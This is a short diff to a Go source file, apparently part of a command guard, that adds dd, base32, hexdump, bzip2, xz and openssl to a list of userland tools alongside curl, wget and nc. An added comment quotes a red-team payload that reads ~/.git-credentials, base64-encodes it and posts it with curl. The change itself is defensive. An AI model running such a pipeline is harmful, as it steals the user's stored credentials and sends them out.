@@ -34,6 +34,10 @@ var UserlandTools = []string{
 	// before it shows what it would fetch, run or send.
 	"base64", "od", "xxd", "gzip", "tar", "ps", "kill", "nohup", "timeout",
 	"curl", "wget", "dig", "nslookup", "host", "ping", "nc",
+	// Red team, session 24: `dd if=~/.git-credentials | base64 | curl -d @-`
+	// died at dd, and a payload that reads, packs or encrypts with these
+	// died so too.
+	"dd", "base32", "hexdump", "bzip2", "xz", "openssl",
 }
 
 // userlandDirs are where a tool is looked for, each spelling bound when it
